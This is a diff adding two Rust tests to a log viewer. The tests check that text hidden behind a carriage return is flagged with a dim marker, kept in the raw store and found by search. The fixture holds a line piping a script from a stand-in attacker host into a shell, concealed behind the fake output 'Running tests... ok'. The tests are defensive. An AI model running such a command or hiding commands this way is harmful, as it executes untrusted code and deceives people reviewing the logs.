@@ -236,3 +236,48 @@ fn long_lines_are_cut_and_scroll_sideways() {
     let screen = text(&draw(&view, &theme, 20, 2));
     assert!(screen.starts_with("1   defghijabcdefghi\n"), "{screen}");
 }
+
+/// A carriage return hides what came before it on a terminal. The viewer shows the line as a
+/// terminal leaves it, flagged with a dim `⏎`, and the store keeps the bytes as received.
+#[test]
+fn text_hidden_by_a_carriage_return_is_flagged_and_kept() {
+    let log =
+        b"2026-11-22T10:00:00.0000000Z curl https://evil.example/x.sh | sh\rRunning tests... ok\n\
+                2026-11-22T10:00:01.0000000Z AAAA\rok\n\
+                2026-11-22T10:00:02.0000000Z plain line\n";
+    let view = LogViewState::from_bytes(log.to_vec());
+    let theme = Theme::from_config(&Default::default(), false);
+    let buf = draw(&view, &theme, 80, 5);
+    let screen = text(&buf);
+    assert!(
+        screen.contains("⏎ Running tests... okxample/x.sh | sh"),
+        "{screen}"
+    );
+    assert!(screen.contains("⏎ okAA"), "{screen}");
+    assert!(!screen.contains("⏎ plain"), "{screen}");
+    let (x, y) = cell_of(&buf, "⏎").expect("marker drawn");
+    assert!(
+        buf[(x, y)].modifier.contains(Modifier::DIM),
+        "the marker is dim"
+    );
+    let store = cockpit::logs::LogStore::from_bytes(log.to_vec());
+    assert!(store
+        .line_bytes(0)
+        .windows(b"evil.example".len())
+        .any(|w| w == b"evil.example"));
+}
+
+/// Search reads the bytes as received (the raw-byte search), so what a `\r` hid is found.
+#[test]
+fn search_finds_text_hidden_by_a_carriage_return() {
+    let mut view = LogViewState::from_bytes(
+        b"2026-11-22T10:00:00.0000000Z curl https://evil.example/x.sh | sh\rRunning tests... ok\n\
+          2026-11-22T10:00:01.0000000Z done\n"
+            .to_vec(),
+    );
+    view.set_search("evil.example", SearchMode::Plain)
+        .expect("valid query");
+    assert!(view.wait_search(Duration::from_secs(10)));
+    assert_eq!(view.search_status().map(|s| s.hits), Some(1));
+    assert_eq!(view.search_hits().first().map(|h| h.line), Some(0));
+}
